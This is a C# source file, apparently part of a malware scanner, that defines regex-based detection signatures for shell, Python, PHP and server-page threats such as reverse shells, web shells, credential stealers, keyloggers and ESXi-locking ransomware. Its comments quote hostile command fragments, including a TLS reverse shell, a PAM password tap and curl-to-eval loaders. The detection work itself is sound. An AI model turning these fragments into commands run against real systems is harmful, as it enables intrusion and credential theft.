using System.Text.RegularExpressions;
using ScanHost.Formats.Scripts;
using ScanHost.Pipeline.Findings;

namespace ScanHost.Pipeline.Stages.Scripts;

/// <summary>What scripts of shells, of Python and of PHP give away.</summary>
internal static partial class UnixSigns
{
    /// <summary>Asks for the password of a Mac and sends away what it opens: in scripts, and in the texts of programs.</summary>
    public static ScriptSign MacTheft { get; } = ScriptSign.All(ScriptHeuristics.MacStealer, AsksPassword(), OpensKeys(), MacSends());

    /// <summary>The same without what sends: native programs call functions for that.</summary>
    public static ScriptSign MacTheftWithoutSending { get; } = ScriptSign.All(ScriptHeuristics.MacStealer, AsksPassword(), OpensKeys());

    public static IReadOnlyList<ScriptSign> Shell { get; } =
    [
        new(ScriptHeuristics.ShCurlPipe, script => PipesStranger(script.Code) ?? PipesStranger(script.Folded)),
        new(ScriptHeuristics.ShReverseShell, script => Printed().Replace(script.Code, "$1\n") is var code && ReverseShell().Match(code) is { Success: true } hands ? ScriptSign.Around(code, hands)
            : ReverseShell().Match(Printed().Replace(script.Folded, "$1\n")) is { Success: true } folded ? folded.Value : null),
        new(ScriptHeuristics.ShReverseShell, ShellOverTls()),
        new(ScriptHeuristics.ShPersist, Persistence()),
        new(ScriptHeuristics.ShCron, Cron()),
        new(ScriptHeuristics.ShDecodePipe, script => ScriptSign.First(script, DecodePipe()) ?? ScriptSign.First(script, DecodesFetched()) ?? Later(KeptDecoded(), EvaluatesKeptText(), script.Code)),
        ScriptSign.All(ScriptHeuristics.TakesDatabases, SchedulerOfDatabase()),
        ScriptSign.All(ScriptHeuristics.TakesContainers, MakesContainer(), BindsRoot()),
        new(ScriptHeuristics.LocksFiles, script => LockingSigns.Locks(script)),
        new(ScriptHeuristics.RansomNote, script => LockingSigns.Note(script)),
        new(ScriptHeuristics.ShDownloadRun, DownloadsAndRuns),
        new(ScriptHeuristics.ShPipeNameless, NamelessPipe()),
        new(ScriptHeuristics.ShBotLoader, script => Processors().Matches(script.Code).Select(match => match.Value).Distinct(StringComparer.Ordinal).Count() >= 4 && MakesRunnable().IsMatch(script.Code) ? ScriptSign.First(script, LoaderFetch()) : null),
        new(ScriptHeuristics.ShContainerEscape, ContainerEscape()),
        new(ScriptHeuristics.ShPipeOsaScript, PipesToOsaScript()),
        new(ScriptHeuristics.ShSpreads, Spreads()),
        new(ScriptHeuristics.ShPasswordTap, TapsPasswords()),
        ScriptSign.All(ScriptHeuristics.ShLocksMachines, KillsMachines(), TakesDisks()),
        new(ScriptHeuristics.MacGuardOff, MacGuard()),
        ScriptSign.All(ScriptHeuristics.FalseProcess, KernelName(), SetsName()),
        new(ScriptHeuristics.ShSudoTheft, TakesSudo()),
        new(ScriptHeuristics.ShRunDownload, EvaluatesFetched()),
        new(ScriptHeuristics.ShObfuscated, InPieces()),
        new(ScriptHeuristics.ShHiddenProgram, HiddenProgram()),
        new(ScriptHeuristics.Evasion, Evasion.In),
        new(ScriptHeuristics.ShBackdoor, SecondRoot()),
        new(ScriptHeuristics.SecretFiles, SecretFiles.In),
        MacTheft,
        new(ScriptHeuristics.ShMiner, Mining()),
        new(ScriptHeuristics.ShCover, script => Covers(script) is { Count: >= 2 } found ? string.Join(", ", found) : null),
    ];

    public static IReadOnlyList<ScriptSign> Python { get; } =
    [
        new(ScriptHeuristics.PyExecDecoded, script => ScriptSign.First(script, ExecOfDecoded()) ?? Later(DecodingLambda(), ExecOfName(), script.Code)),
        new(ScriptHeuristics.PyExecDecrypted, ExecOfDecrypted()),
        new(ScriptHeuristics.SecretFiles, SecretFiles.In),
        new(ScriptHeuristics.PySetupNetwork, script => ScriptSign.First(script, SetupCall()) is null ? null : ReachesOut(script)),
        new(ScriptHeuristics.PyRunDownload, ExecOfDownload()),
        new(ScriptHeuristics.PyPersist, PersistsInPython()),
        ScriptSign.All(ScriptHeuristics.PyClipper, ReadsClipboard(), WritesClipboard(), CommonPatterns.WalletAddressPattern()),
        new(ScriptHeuristics.PaddedCode, JavaScriptSigns.PaddedCode),
        ScriptSign.All(ScriptHeuristics.PyInject, WindowsMemory(), WindowsThread()),
        ScriptSign.All(ScriptHeuristics.PyStealer, BrowserStore(), Unprotect(), Sends()),
        ScriptSign.All(ScriptHeuristics.PyEnvExfil, Environment(), Sends()),
        new(ScriptHeuristics.PyInstallHook, script => ScriptSign.First(script, InstallStep()) is null ? null : ReachesOut(script)),
        new(ScriptHeuristics.PyStartsSaved, StartsSavedFile),
        new(ScriptHeuristics.Evasion, Evasion.In),
        new(ScriptHeuristics.PyRemoteShell, script => Socket().IsMatch(script.Code) && SendsBack().IsMatch(script.Code) ? Later(Received(), RunsName(), script.Code) : null),
        ScriptSign.All(ScriptHeuristics.PyRemoteShell, TasksOfServer(), SendsResult()),
        ScriptSign.All(ScriptHeuristics.FalseProcess, KernelName(), SetsName()),
        ScriptSign.All(ScriptHeuristics.PyKeyLogger, ListensToKeys(), SendsKeys()),
        new(ScriptHeuristics.PyHiddenExec, HiddenExec),
        new(ScriptHeuristics.PyHiddenPayload, script => HiddenExec(script) is { } detour && (ReadsBeside().IsMatch(script.Code) || (ScriptSign.First(script, Compiles()) is not null && (NumberList().IsMatch(script.Code) || UnpacksText().IsMatch(script.Code)))) ? detour : null),
        ScriptSign.All(ScriptHeuristics.PyInstallsUnseen, InstallsPackages(), KeepsWindowAway()),
        ScriptSign.All(ScriptHeuristics.PyStealer, SessionStore(), SessionTokens(), Sends()),
        ScriptSign.All(ScriptHeuristics.TakesDatabases, SchedulerOfDatabase()),
        ScriptSign.All(ScriptHeuristics.TakesContainers, MakesContainer(), BindsRoot()),
        ScriptSign.All(ScriptHeuristics.ShPipeNameless, TakesServers(), NamelessPipe()),
        new(ScriptHeuristics.LocksFiles, script => LockingSigns.Locks(script)),
        new(ScriptHeuristics.RansomNote, script => LockingSigns.Note(script)),
        ScriptSign.All(ScriptHeuristics.PyReverseShell, Socket(), Duplicate(), ShellStart()),
    ];

    public static IReadOnlyList<ScriptSign> Php { get; } =
    [
        new(ScriptHeuristics.PhpRunsRequest, RunsRequest),
        new(ScriptHeuristics.PhpWebShell, script => RunsRequest(script) is null ? RunsKeptInput(script) ?? IncludesInput(script) : null),
        new(ScriptHeuristics.PhpObfuscated, UnpacksItself()),
        new(ScriptHeuristics.PhpHiddenName, HiddenName),
        new(ScriptHeuristics.PhpHiddenEval, script => HidesEvaluation(script) ? ScriptSign.First(script, CallsVariable()) : null),
    ];

    /// <summary>Of Ruby, Perl, Lua and AppleScript, which are not parsed.</summary>
    public static IReadOnlyList<ScriptSign> Other { get; } =
    [
        new(ScriptHeuristics.RubyRunsDownload, EvaluatesAnswer()),
        new(ScriptHeuristics.OtherReverseShell, HandsShell()),
        ScriptSign.All(ScriptHeuristics.ChatBot, SpeaksChat(), AnswersChat(), RunsWords()),
        ScriptSign.All(ScriptHeuristics.FalseProcess, KernelName(), SetsName()),
        MacTheft,
    ];

    /// <summary>Of a page that a web server runs (ASP, ASP.NET, JSP).</summary>
    public static IReadOnlyList<ScriptSign> ServerPage { get; } =
    [
        new(ScriptHeuristics.ServerEval, script => ScriptSign.First(script, EvaluatesRequest()) ?? EvaluatesKept(script)),
        new(ScriptHeuristics.ServerWebShell, script => RequestValue().IsMatch(script.Code) || (TypedField().IsMatch(script.Code) && TypedValue().IsMatch(script.Code)) ? StartsAnyProgram(script.Code) : null),
        new(ScriptHeuristics.ServerCommandPage, CommandPage),
        new(ScriptHeuristics.ServerLoadsCode, script => ReceivesBytes().IsMatch(script.Code) ? ScriptSign.First(script, LoadsClass()) ?? Later(KeptBytes(), LoadsKept(), script.Code) : null),
        ScriptSign.All(ScriptHeuristics.ServerKeys, ReadsServerKeys(), WritesAnswer()),
        new(ScriptHeuristics.ServerConfigRuns, SettingsAsPage()),
    ];

    // What makers tell to install their tools by is no stranger's.
    private static string? PipesStranger(string code) =>
        CurlPipe().Matches(code).FirstOrDefault(pipe => !PublishersInstallers.AreAllIn(FollowedNames.LineAround(code, pipe))) is { } found ? ScriptSign.Around(code, found) : null;

    // cat <<TEXT at the beginning of a line, and nothing takes what it prints: a text that the script shows, such as its help.
    [GeneratedRegex(@"^(cat[ \t]{0,4}<<-?[ \t]{0,4}(['""]?)(?<mark>\w{1,40})\2[ \t\r]{0,4})\n(?:(?!\k<mark>[ \t\r]*$)[^\n]*\n){1,500}?(?=\k<mark>[ \t\r]*$)", RegexOptions.Multiline | RegexOptions.CultureInvariant, SearchTime.Limit)]
    private static partial Regex Printed();

    // sh -i < pipe 2>&1 | openssl s_client -connect host:443 > pipe
    [GeneratedRegex(@"\b(?:(?:ba|z|da|k)?sh\}?|\$\{?SHELL\b[^\s}]{0,10}\}?)\s+-i\b[^\n|]{0,120}\|\s*openssl\s+s_client\b[^\n]{0,120}-connect\b", RegexOptions.CultureInvariant)]
    private static partial Regex ShellOverTls();

    // sed -i '... pam_exec.so expose_authtok ...' /etc/pam.d/common-auth: every password goes to a program.
    [GeneratedRegex(@"\bpam_exec\.so\b[^\n]{0,120}\bexpose_authtok\b[^\n]{0,300}/etc/pam\.d/|\bpam_exec\.so\b[^\n]{0,120}\bexpose_authtok\b[^\n]{0,120}/(?:tmp|dev/shm|var/tmp)/", RegexOptions.CultureInvariant)]
    private static partial Regex TapsPasswords();

    [GeneratedRegex(@"\besxcli\s+vm\s+process\s+kill\b|\bvim-cmd\s+vmsvc/power\.off\b", RegexOptions.CultureInvariant)]
    private static partial Regex KillsMachines();

    [GeneratedRegex(@"\bvmsvc/snapshot\.removeall\b|\bfind\s+/vmfs/volumes\b[^\n]{0,200}\.(?:vmdk|vmx|vmsn)\b[^\n]{0,300}\b(?:nohup|openssl|\./|/tmp/)", RegexOptions.CultureInvariant)]
    private static partial Regex TakesDisks();

    [GeneratedRegex(@"\bspctl\s+--(?:master|global)-disable\b|\bcsrutil\s+disable\b|\bTCC\.db[""']?\s+[""'][^""'\n]{0,40}\b(?:insert|replace|update)\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex MacGuard();

    [GeneratedRegex(@"[""'(=,\s]\[(?:kworker|kswapd|kthread|ksoftirqd|migration/|jbd2|scsi_eh|rcu_|watchdogd|khelper|bioset|mm_percpu)[^\]\n]{0,20}\]|/usr/sbin/httpd\b[^""'\n]{0,40}-DSSL", RegexOptions.CultureInvariant)]
    private static partial Regex KernelName();

    [GeneratedRegex(@"\$0\s*=(?![=~])|\$PROGRAM_NAME\s*=(?![=~])|\bsetproctitle\b|\bexec\s+-a\s|\bPR_SET_NAME\b|\bprctl\b", RegexOptions.CultureInvariant)]
    private static partial Regex SetsName();

    [GeneratedRegex(@"\bPRIVMSG\b", RegexOptions.CultureInvariant)]
    private static partial Regex SpeaksChat();

    [GeneratedRegex(@"\bPONG\b", RegexOptions.CultureInvariant)]
    private static partial Regex AnswersChat();

    [GeneratedRegex(@"`\s*\$\w{1,40}\b[^`\n]{0,40}`|\b(?:system|exec|popen\w*|qx)\s*\(?\s*[""{/]?\s*\$\w", RegexOptions.CultureInvariant)]
    private static partial Regex RunsWords();

    [GeneratedRegex(@"\brequest\s*\.\s*(?:getParameter|getReader|getInputStream|getHeader|BinaryRead|InputStream|Headers|Form|Item)\b|\bRequest\s*\[", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex ReceivesBytes();

    // A class loader within a page; an assembly out of bytes, called by its name or found by it.
    [GeneratedRegex(@"\bextends\s+ClassLoader\b[\s\S]{0,400}?\bdefineClass\s*\(|\bGetMethod\s*\(\s*""Load""[^;\n]{0,200}\bbyte\b|\bAssembly\s*\.\s*Load\s*\(\s*(?:new\s+byte\b|(?:System\s*\.\s*)?Convert\s*\.\s*FromBase64String|\w{1,40}\s*\.\s*(?:TransformFinalBlock|ToArray|BinaryRead|ReadBytes))\b", RegexOptions.CultureInvariant)]
    private static partial Regex LoadsClass();

    // Plug-ins are loaded by their names; code out of a request as bytes.
    [GeneratedRegex(@"\bbyte\s*\[\s*\]\s+(?<v>\w{1,40})\s*[=;]|\b(?<v>\w{1,40})\s*=\s*[^;=\n]{0,120}(?:FromBase64String|TransformFinalBlock|BinaryRead|ReadBytes|ToArray)\s*\(", RegexOptions.CultureInvariant)]
    private static partial Regex KeptBytes();

    [GeneratedRegex(@"\bAssembly\s*\.\s*Load\s*\(\s*(?<v>\w{1,40})\s*\)", RegexOptions.CultureInvariant)]
    private static partial Regex LoadsKept();

    // A page that starts one program of its own, with what the visitor sent as an argument, is no way in; a shell is.
    private static string? StartsAnyProgram(string code) =>
        StartsProcess().Matches(code) is { Count: > 0 } starts && starts.Count > FixedProgram().Count(code) ? starts[0].Value : null;

    [GeneratedRegex(@"(?:new\s+ProcessBuilder\s*\(\s*(?:(?:Arrays\s*\.\s*asList|List\s*\.\s*of)\s*\(\s*)?|getRuntime\s*\(\s*\)\s*\.\s*exec\s*\(\s*new\s+String\s*\[\s*\]\s*\{\s*|ProcessStartInfo\s*\(\s*@?|StartInfo\s*\.\s*FileName\s*=\s*@?)""(?!(?:[^""\n]{0,60}[\\/])?(?:(?:ba|z|da|k)?sh|cmd|powershell|pwsh|python\d?|perl|ruby|php|wscript|cscript|mshta)(?:\.exe)?\s*"")[^""\s]{2,200}""\s*[,;)]", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex FixedProgram();

    // What somebody typed into a field of ASP.NET.
    [GeneratedRegex(@"<asp:TextBox\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex TypedField();

    [GeneratedRegex(@"\b(?<v>\w{1,40})\s*\.\s*Text\b", RegexOptions.CultureInvariant)]
    private static partial Regex TypedValue();

    // The shell is given nothing but what the visitor sent or typed, and what it says becomes part of the page.
    private static string? CommandPage(ScriptSource page)
    {
        var code = page.Code;
        if ((!RequestValue().IsMatch(code) && !(TypedField().IsMatch(code) && TypedValue().IsMatch(code))) || !ShellOutput().IsMatch(code) || !ShellProgram().IsMatch(code))
            return null;
        // request.getParameter("c"), a variable that was given it, or the parameter of a function that is called with it.
        var called = CalledWithVisitors().Matches(code).Select(call => call.Groups["f"].Value).ToHashSet(StringComparer.Ordinal);
        var visitors = KeptRequest().Matches(code).Select(kept => kept.Groups["v"].Value)
            .Concat(Parameter().Matches(code).Where(one => called.Contains(one.Groups["f"].Value)).Select(one => one.Groups["v"].Value)).ToHashSet(StringComparer.Ordinal);
        return BareShellArgument().Matches(code).FirstOrDefault(argument => argument.Groups["value"].Value is var value && (visitors.Contains(value) || OfVisitor().IsMatch(value)))?.Value;
    }

    [GeneratedRegex(@"\brequest\b|\.\s*Text$", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex OfVisitor();

    [GeneratedRegex(@"\b(?<f>\w{1,40})\s{0,20}\(\s{0,20}(?:ByVal\s{1,20})?string\s{1,20}(?<v>\w{1,40})\s{0,20}[,)]", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex Parameter();

    [GeneratedRegex(@"\b(?<f>\w{1,40})\s{0,20}\(\s{0,20}(?:request\b|\w{1,40}\s{0,20}\.\s{0,20}Text\b)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex CalledWithVisitors();

    [GeneratedRegex(@"""(?:[^""\n]{0,60}[\\/])?(?:cmd|powershell|pwsh|(?:ba)?sh)(?:\.exe)?""", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex ShellProgram();

    [GeneratedRegex(@"""\s*(?:/[ck]|-c(?:ommand)?)\s*""\s*(?:\+|&|,)\s*(?<value>[A-Za-z_][\w.]{0,60})", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex BareShellArgument();

    [GeneratedRegex(@"RedirectStandardOutput|StandardOutput\b|getInputStream\s*\(|\.StdOut\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex ShellOutput();

    [GeneratedRegex(@"\bMachineKeySection\b[\s\S]{0,1500}?\b(?:ValidationKey|DecryptionKey)\b", RegexOptions.CultureInvariant)]
    private static partial Regex ReadsServerKeys();

    [GeneratedRegex(@"\bResponse\s*\.\s*(?:Write|Output|AddHeader|Headers)\b[^;\n]{0,200}\b(?:ValidationKey|DecryptionKey)\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex WritesAnswer();

    // Settings of a folder that make the settings themselves a page: *.config is given to asp.dll.
    [GeneratedRegex(@"<add\b(?=[^>]{0,400}\bpath\s*=\s*""[^""]{0,40}\.(?:config|txt|jpe?g|png|gif|ico|css)"")(?=[^>]{0,400}\bscriptProcessor\s*=\s*""[^""]{0,200}\b(?:asp|aspnet_isapi|php-cgi|cmd)\.(?:dll|exe))[^>]{0,600}>", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex SettingsAsPage();

    // json.loads(urlopen(...)) ... os.popen(task["cmd"])
    [GeneratedRegex(@"json\.loads?\s*\([^\n]{0,160}(?:urlopen|\.text\b|\.read\s*\(|\.content\b)[\s\S]{0,400}?(?:os\.(?:popen|system)|subprocess\.\w{1,20})\s*\(\s*\w{1,40}\s*(?:\[|\.get\b)", RegexOptions.CultureInvariant)]
    private static partial Regex TasksOfServer();

    [GeneratedRegex(@"urlopen\s*\([^\n]{1,80},\s*\w|\.post\s*\(|\.put\s*\(", RegexOptions.CultureInvariant)]
    private static partial Regex SendsResult();

    // curl ... | osascript
    [GeneratedRegex(@"\bcurl\b[^\n|;#]{0,300}\|\s*osascript\b", RegexOptions.CultureInvariant)]
    private static partial Regex PipesToOsaScript();

    [GeneratedRegex(@"known_hosts[\s\S]{0,600}?\bssh\b[^\n]{0,200}(?:BatchMode|StrictHostKeyChecking)[^\n]{0,300}(?:curl|wget|base64|\|\s*(?:ba)?sh\b)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant | RegexOptions.NonBacktracking)]
    private static partial Regex Spreads();

    [GeneratedRegex(@"(?:\balias\s+sudo=|\bfunction\s+sudo\b|\bsudo\s*\(\s*\)\s*\{)(?>[\s\S]{0,240}?\bread\s{1,20}-\w{0,10}s)[\s\S]{0,540}?(?:curl|wget|\bnc\b|>>?\s*[~/.$])", RegexOptions.CultureInvariant)]
    private static partial Regex TakesSudo();

    // r=$(curl ...); eval "$r"
    [GeneratedRegex(@"\b(?<v>\w{1,40})=[""']?[$`]\(?\s{0,20}(?:curl|wget|\$\w{1,20})\s[\s\S]{1,500}?\beval\s{1,20}[""']?\$\{?\k<v>\b|\beval\s+[""']?(?:\$\(|`)\s*(?:curl|wget)\s(?![^\n]{0,200}localhost)|\bphp\s+-r\s{1,20}(?>[^\n]{0,40}?\b(?:eval|include|require)\b)[^\n]{0,120}file_get_contents\s*\(\s*['""\\]{1,3}https?:|\bpython[23]?\s+-c\s{1,20}(?>[^\n]{0,160}?\bexec\b)[^\n]{0,240}(?:urlopen|requests\.get)", RegexOptions.CultureInvariant)]
    private static partial Regex EvaluatesFetched();

    // "cu""rl", letters exchanged by tr, a command's name in escapes, text encoded twice.
    [GeneratedRegex(@"\b\w+=[""']?(?:c[""']{2}url|cu[""']{2}rl|cur[""']{2}l|w[""']{2}get|wg[""']{2}et|wge[""']{2}t)\b|\|\s*tr\s+['""]?(?:\[?a-z\]?|\[?a-zA-Z\]?|\[?A-Za-z\]?)['""]?\s+['""]?\[?n-za-m|\|\s*tr\s+['""]?\[?n-za-m[^\n|]{0,20}|base64\b[^\n|]{0,20}\|\s*base64\b|\b(?:printf|echo\s+-\w*e\w*)\s+['""](?:\\x[0-9a-f]{2}){12,}|\$\(\s*printf\s+['""](?:\\[0-7]{3}){3,}|""\$\{\w{1,20}\}\$\{\w{1,20}\}""\s+<<<|\$'(?:\\x[0-9a-f]{2}){8,}", RegexOptions.CultureInvariant)]
    private static partial Regex InPieces();

    [GeneratedRegex(@"\bchmod\s[^\n&;]{1,80}?(?<p>(?>(?:/tmp|/var/tmp|/dev/shm|/var/run)/(?:[\w-][\w.-]*/){0,8}\.[\w-][\w./-]*))[ \t]*(?:&&|;|\n)\s{0,40}(?:nohup\s+|sudo\s+)?\k<p>(?<=\b(?:wget|curl)\b[\s\S]{0,800})", RegexOptions.CultureInvariant)]
    private static partial Regex HiddenProgram();

    // urlretrieve(url, p) or open(p, 'wb').write(...get(...)) and then Popen([..., p]).
    private static string? StartsSavedFile(ScriptSource script)
    {
        var files = FollowedNames.In(SavedFile().Matches(script.Code), saved => saved.Groups["file"].Value).ToList();
        if (files.Count == 0)
            return null;
        foreach (Match start in Starts().Matches(script.Code))
            foreach (var (file, saved) in files)
                if (start.Index >= saved.Index + saved.Length && start.Groups["rest"].Value.Contains(file, StringComparison.Ordinal))
                    return $"{saved.Value} ... {start.Value}{start.Groups["rest"].Value}";
        return null;
    }

    [GeneratedRegex(@"(?:subprocess\.\w{1,40}|os\.system|os\.startfile|os\.popen|os\.exec\w{0,10}|runpy\.run_path|ctypes\.(?:CDLL|WinDLL|cdll\.LoadLibrary|windll\.LoadLibrary))\s{0,20}\((?=(?<rest>[^\n]{0,160}))", RegexOptions.CultureInvariant)]
    private static partial Regex Starts();

    [GeneratedRegex(@"\burlretrieve\s*\([^\n,]{1,300},\s*(?:str\s*\()?(?<file>\w{1,40}|['""][^'""\n]{3,200})|\bopen\s*\(\s*(?<file>\w{1,40}|['""][^'""\n]{3,200})['""]?\s*,\s*['""]wb['""]\s*\)(?=[\s\S]{0,200}(?:requests\.get|urlopen|\.content\b))|\b(?<file>\w{1,40})\.write_bytes\s*\([^\n]{0,40}(?:urlopen|requests\.get|httpx\.get)\s*\(", RegexOptions.CultureInvariant)]
    private static partial Regex SavedFile();

    // What is kept under a name, and a use of the name after it.
    private static string? Later(Regex keeps, Regex uses, string code)
    {
        var kept = FollowedNames.First(keeps.Matches(code), "v", StringComparer.Ordinal);
        return kept.Count > 0 && uses.Matches(code).FirstOrDefault(use => kept.TryGetValue(use.Groups["v"].Value, out var from) && use.Index > from.Index) is { } run ? $"{kept[run.Groups["v"].Value].Value} ... {run.Value}" : null;
    }

    [GeneratedRegex(@"\b(?<v>\w{1,40})\s{0,20}=\s{0,20}lambda[^\n]{0,200}?(?:b64decode|decompress|marshal)", RegexOptions.CultureInvariant)]
    private static partial Regex DecodingLambda();

    [GeneratedRegex(@"\bexec\s{0,20}\(\s{0,20}\(?\s{0,20}(?<v>\w{1,40})\s{0,20}\)?\s{0,20}\(", RegexOptions.CultureInvariant)]
    private static partial Regex ExecOfName();

    [GeneratedRegex(@"\b(?<v>\w{1,40})\s{0,20}=[^\n]{0,100}?\.recv\s{0,20}\(", RegexOptions.CultureInvariant)]
    private static partial Regex Received();

    [GeneratedRegex(@"(?:subprocess\.\w{1,40}\s{0,20}\(\s{0,20}(?<v>\w{1,40})\b(?=[^\n]{0,120}shell\s{0,20}=\s{0,20}True)|os\.(?:popen|system)\s{0,20}\(\s{0,20}(?<v>\w{1,40})\b)", RegexOptions.CultureInvariant)]
    private static partial Regex RunsName();

    [GeneratedRegex(@"\.send(?:all)?\s*\(", RegexOptions.CultureInvariant)]
    private static partial Regex SendsBack();

    // curl ... | xxd -r -p > f; chmod +x f: a program that came as text.
    [GeneratedRegex(@"\b(?:curl|wget)\b[^\n|;]{0,300}\|\s*(?:xxd\s+-r|base64\s+(?:-d|-D|--decode))[^\n|;&>]{0,40}>\s*[""']?(?<f>[^\s;&|""']{2,120})[\s;&""'][\s\S]{0,200}?\bchmod\s+(?:[ugoa]*\+x|[0-7]?7[0-7]{2})\s+[""']?\k<f>", RegexOptions.CultureInvariant)]
    private static partial Regex DecodesFetched();

    // J=$(... | base64 -d) ... eval "$J"
    [GeneratedRegex(@"\b(?<v>\w{1,40})=[""']?(?:\$\(|`)(?=[^\n]{1,8000}?(?:base64\s+(?:-d|-D|--decode|-di)|openssl\s+(?:base64|enc)\s[^\n]{0,60}-d|xxd\s+-r))", RegexOptions.CultureInvariant)]
    private static partial Regex KeptDecoded();

    [GeneratedRegex(@"\beval\s+(?:--\s+)?[""']?\$\{?(?<v>\w{1,40})|\b(?:ba|z|da)?sh\s+-c\s+[""']?\$\{?(?<v>\w{1,40})|\b(?:echo|printf)\s[^\n|]{0,40}\$\{?(?<v>\w{1,40})[^\n|]{0,20}\|\s*(?:ba|z|da)?sh\b", RegexOptions.CultureInvariant)]
    private static partial Regex EvaluatesKeptText();

    // A database that keeps its file where the scheduler or sshd reads it.
    [GeneratedRegex(@"config\W{1,8}set\W{1,8}dir\W{1,8}(?:/var/spool/cron|/etc/cron|/root/\.ssh|/home/\w{1,32}/\.ssh)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex SchedulerOfDatabase();

    [GeneratedRegex(@"POST\s[^\s""']{0,80}/containers/create\b|[""'/]containers/create\b", RegexOptions.CultureInvariant)]
    private static partial Regex MakesContainer();

    [GeneratedRegex(@"[""']Binds\\?[""']\s*:\s*\[\s*\\?[""']/:/", RegexOptions.CultureInvariant)]
    private static partial Regex BindsRoot();

    [GeneratedRegex(@"config\W{1,8}set\W{1,8}dir\W{1,8}(?:/var/spool/cron|/etc/cron|/root/\.ssh)|[""']Binds\\?[""']\s*:\s*\[\s*\\?[""']/:/", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex TakesServers();

    // exec by a detour: globals()["__builtins__"]["exec"], getattr(builtins, "ex" + "ec"), a name out of letter codes.
    private static string? HiddenExec(ScriptSource script) => ScriptSign.First(script, ExecByDetour()) ?? ScriptSign.First(script, ExecInCodes());

    [GeneratedRegex(@"\[\s*['""](?:exec|eval)['""]\s*\]\s*\(|\bgetattr\s*\(\s*(?:__builtins__|__import__\s*\(\s*[^()\n]{1,60}\))\s*,\s*['""](?:exec|eval)['""]|\bgetattr\s*\(\s*(?:__builtins__|builtins|__import__\s*\(\s*[^()\n]{1,60}\))\s*,\s*(?:['""]\w{1,3}['""]\s*\+|['""]{2}\s*\.\s*join\s*\(|bytes\s*\(|[^,()\n]{0,40}\[\s*::\s*-1\s*\])|\b(?:__builtins__|builtins)\s*\.\s*__dict__\s*\[\s*['""](?:exec|eval)['""]\s*\]|\bgetattr\s*\(\s*__import__\s*\(\s*['""][^'""\n]{1,20}['""]\s*\+|\bvars\s*\(\s*sys\s*\.\s*modules\s*\[\s*['""](?:builtins|__builtin__)['""]\s*\]\s*\)|\bgetattr\s*\(\s*\w{1,40}\s*,\s*['""]\w{1,5}['""]\s*\+\s*['""]\w{1,6}['""]\s*\)\s*\(", RegexOptions.CultureInvariant)]
    private static partial Regex ExecByDetour();

    [GeneratedRegex(@"\b101\s*,\s*120\s*,\s*101\s*,\s*99\b|\b101\s*,\s*118\s*,\s*97\s*,\s*108\s*[\])]|\b0x65\s*,\s*0x78\s*,\s*0x65\s*,\s*0x63\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex ExecInCodes();

    [GeneratedRegex(@"['""]pip['""]\s*,\s*['""]install['""]|\bpip3?\s+install\b", RegexOptions.CultureInvariant)]
    private static partial Regex InstallsPackages();

    [GeneratedRegex(@"\bcreationflags\s*=\s*(?:0x0?8000000\b|134217728\b|(?:subprocess\s*\.\s*)?CREATE_NO_WINDOW\b)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex KeepsWindowAway();

    [GeneratedRegex(@"Local Storage['""\\/, ]{1,12}leveldb", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex SessionStore();

    // The expression by which sessions of a chat program are found in its files.
    [GeneratedRegex(@"\]\{24\}(?:\\{1,2}\.|\.)\[[^\]\n]{1,20}\]\{6\}|\bmfa\\{1,2}\.\[|\bdQw4w9WgXcQ:", RegexOptions.CultureInvariant)]
    private static partial Regex SessionTokens();

    [GeneratedRegex(@"requests\.(?:post|put)\s*\(|discord(?:app)?\.com/api/webhooks|api\.telegram\.org/bot|urlopen\s*\([^\n]{0,300}data\s*=|request\.Request\s*\([^\n]{0,300}data\s*=|\.sendall?\s*\(|HTTPS?Connection\s*\([^\n]{0,200}|ftplib\.FTP\s*\(|smtplib\.SMTP(?:_SSL)?\s*\(|\.send_?mail\s*\(|\.send_message\s*\(", RegexOptions.CultureInvariant)]
    private static partial Regex SendsKeys();

    [GeneratedRegex(@"\bkeyboard\.Listener\s*\(\s*on_press|\bkeyboard\.(?:on_press|on_release|hook)\s*\(|pyHook\.HookManager", RegexOptions.CultureInvariant)]
    private static partial Regex ListensToKeys();

    // What is a name only when everything is worked out; or that is included by a path in escapes.
    private static string? HiddenName(ScriptSource script) => HiddenNames(script).FirstOrDefault()
        ?? (HiddenInclude().Match(script.Code) is { Success: true } include ? include.Value : LettersOfName().Match(script.Code) is { Success: true } letters ? letters.Value : null);

    private static IEnumerable<string> HiddenNames(ScriptSource script) =>
        script.Texts.Distinct(StringComparer.Ordinal).Where(text => TellingName().IsMatch(text) && !script.Code.Contains(text, StringComparison.OrdinalIgnoreCase));

    private static bool HidesEvaluation(ScriptSource script) => HiddenNames(script).Any(name => EvaluatingName().IsMatch(name)) || LettersOfName().IsMatch(script.Code) || MadeFunction().IsMatch(script.Code) || CallsByDecoded().IsMatch(script.Code);

    [GeneratedRegex(@"^(?:create_function|base64_decode|gzinflate|gzuncompress|str_rot13|assert|eval\(\$\w+\);?|shell_exec|passthru|system|call_user_func|php://input)$", RegexOptions.CultureInvariant)]
    private static partial Regex TellingName();

    [GeneratedRegex(@"^(?:create_function|assert|eval|shell_exec|passthru|system)", RegexOptions.CultureInvariant)]
    private static partial Regex EvaluatingName();

